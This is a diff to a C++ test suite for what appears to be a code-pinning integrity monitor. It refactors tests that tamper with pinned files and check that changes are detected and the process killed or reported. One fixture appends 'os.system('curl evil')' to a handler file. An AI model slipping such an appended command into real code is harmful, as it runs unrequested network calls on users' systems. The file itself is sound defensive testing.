@@ -20,6 +20,7 @@
 #include <fstream>
 #include <functional>
 #include <iostream>
+#include <optional>
 #include <span>
 #include <string>
 #include <thread>
@@ -867,6 +868,15 @@ protected:
             if (event_path(ev).path.rfind(code_.string() + "/", 0) == 0) out.push_back(ev);
         return out;
     }
+    // The one record about the code directory's files, or a failure naming
+    // what came instead.
+    std::optional<fnw_file_event> one_code_event(const Run& r) const {
+        EXPECT_EQ(r.outcome.exit_code, 0);
+        auto v = code_events(r);
+        EXPECT_EQ(v.size(), 1u) << describe(v);
+        if (v.size() != 1) return std::nullopt;
+        return v[0];
+    }
     static std::string hex(const uint8_t (&digest)[32]) {
         Sha256 bytes{};
         std::memcpy(bytes.data(), digest, bytes.size());
@@ -898,18 +908,17 @@ TEST_F(CodePinTest, AnAppendedLineIsKilledAtItsFirstReadAndReportedWithBothDiges
     const std::string pinned = sha256_hex_of((code_ / "handler.py").string());
     std::ofstream(code_ / "handler.py", std::ios::app) << "import os; os.system('curl evil')\n";
     auto r = cat(p, Mode::Enforce, "handler.py");
-    ASSERT_EQ(r.outcome.exit_code, 0);
-    auto v = code_events(r);
-    ASSERT_EQ(v.size(), 1u) << describe(v);
-    EXPECT_EQ(v[0].verdict, FNW_VERDICT_VIOLATION);
-    EXPECT_TRUE(v[0].object_flags & FNW_OBJECT_CODE_PINNED);
-    EXPECT_EQ(v[0].sha256_check, FNW_SHA256_MISMATCH);
-    EXPECT_EQ(hex(v[0].expected_sha256), pinned);
-    EXPECT_EQ(hex(v[0].sha256), sha256_hex_of((code_ / "handler.py").string()));
+    const auto ev = one_code_event(r);
+    ASSERT_TRUE(ev);
+    EXPECT_EQ(ev->verdict, FNW_VERDICT_VIOLATION);
+    EXPECT_TRUE(ev->object_flags & FNW_OBJECT_CODE_PINNED);
+    EXPECT_EQ(ev->sha256_check, FNW_SHA256_MISMATCH);
+    EXPECT_EQ(hex(ev->expected_sha256), pinned);
+    EXPECT_EQ(hex(ev->sha256), sha256_hex_of((code_ / "handler.py").string()));
     // Held at the open's end until the hash, then killed: cat never got
     // the fd, so nothing of the changed file came out.
-    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
-    EXPECT_EQ(v[0].mechanism, FNW_MECH_HELD_KILL);
+    EXPECT_EQ(ev->action, FNW_ACTION_KILLED);
+    EXPECT_EQ(ev->mechanism, FNW_MECH_HELD_KILL);
     EXPECT_EQ(slurp("out"), "");
     EXPECT_EQ(slurp("status"), "137\n");
 }
@@ -918,12 +927,11 @@ TEST_F(CodePinTest, InAuditTheChangedCodeIsReportedAndRuns) {
     const FunctionPolicy p = pinned_policy();
     std::ofstream(code_ / "greet.py", std::ios::app) << "NAME = 'mallory'\n";
     auto r = cat(p, Mode::Audit, "greet.py");
-    ASSERT_EQ(r.outcome.exit_code, 0);
-    auto v = code_events(r);
-    ASSERT_EQ(v.size(), 1u) << describe(v);
-    EXPECT_EQ(v[0].sha256_check, FNW_SHA256_MISMATCH);
-    EXPECT_EQ(v[0].action, FNW_ACTION_REPORTED);
-    EXPECT_EQ(v[0].held, 0) << "audit never stops the function";
+    const auto ev = one_code_event(r);
+    ASSERT_TRUE(ev);
+    EXPECT_EQ(ev->sha256_check, FNW_SHA256_MISMATCH);
+    EXPECT_EQ(ev->action, FNW_ACTION_REPORTED);
+    EXPECT_EQ(ev->held, 0) << "audit never stops the function";
     EXPECT_EQ(slurp("status"), "0\n");
 }
 
@@ -932,11 +940,10 @@ TEST_F(CodePinTest, AFileReplacedByARenameIsCheckedUnderItsPinnedName) {
     std::ofstream(dir_ / "evil.py") << "print('evil')\n";
     fs::rename(dir_ / "evil.py", code_ / "handler.py");  // a new inode under the pinned name
     auto r = cat(p, Mode::Enforce, "handler.py");
-    ASSERT_EQ(r.outcome.exit_code, 0);
-    auto v = code_events(r);
-    ASSERT_EQ(v.size(), 1u) << describe(v);
-    EXPECT_EQ(v[0].sha256_check, FNW_SHA256_MISMATCH);
-    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
+    const auto ev = one_code_event(r);
+    ASSERT_TRUE(ev);
+    EXPECT_EQ(ev->sha256_check, FNW_SHA256_MISMATCH);
+    EXPECT_EQ(ev->action, FNW_ACTION_KILLED);
     EXPECT_EQ(slurp("out"), "");
 }
 
@@ -944,12 +951,11 @@ TEST_F(CodePinTest, AFileAddedToTheCodeDirectoryIsNotTheBundlesCode) {
     const FunctionPolicy p = pinned_policy();
     std::ofstream(code_ / "json.py") << "print('shadows the standard library')\n";
     auto r = cat(p, Mode::Enforce, "json.py");
-    ASSERT_EQ(r.outcome.exit_code, 0);
-    auto v = code_events(r);
-    ASSERT_EQ(v.size(), 1u) << describe(v);
-    EXPECT_EQ(v[0].sha256_check, FNW_SHA256_NOT_PINNED);
-    EXPECT_EQ(v[0].verdict, FNW_VERDICT_VIOLATION);
-    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
+    const auto ev = one_code_event(r);
+    ASSERT_TRUE(ev);
+    EXPECT_EQ(ev->sha256_check, FNW_SHA256_NOT_PINNED);
+    EXPECT_EQ(ev->verdict, FNW_VERDICT_VIOLATION);
+    EXPECT_EQ(ev->action, FNW_ACTION_KILLED);
     EXPECT_EQ(slurp("status"), "137\n");
 }
 
@@ -961,12 +967,12 @@ TEST_F(CodePinTest, AFileInANewSubdirectoryIsCheckedAndAWriteIsNot) {
                 "echo log >>" + (code_ / "written.txt").string() + "; cat " +
                     (code_ / "__pycache__" / "greet.cpython-311.pyc").string() + " >/dev/null; echo $? >" +
                     (dir_ / "status").string());
-    ASSERT_EQ(r.outcome.exit_code, 0);
-    auto v = code_events(r);
-    ASSERT_EQ(v.size(), 1u) << "the write-only open is the files section's business: " << describe(v);
-    EXPECT_EQ(event_path(v[0]).path, (code_ / "__pycache__" / "greet.cpython-311.pyc").string());
-    EXPECT_EQ(v[0].sha256_check, FNW_SHA256_NOT_PINNED);
-    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
+    // One record: the write-only open is the files section's business.
+    const auto ev = one_code_event(r);
+    ASSERT_TRUE(ev);
+    EXPECT_EQ(event_path(*ev).path, (code_ / "__pycache__" / "greet.cpython-311.pyc").string());
+    EXPECT_EQ(ev->sha256_check, FNW_SHA256_NOT_PINNED);
+    EXPECT_EQ(ev->action, FNW_ACTION_KILLED);
     EXPECT_EQ(slurp("status"), "137\n");
 }
 
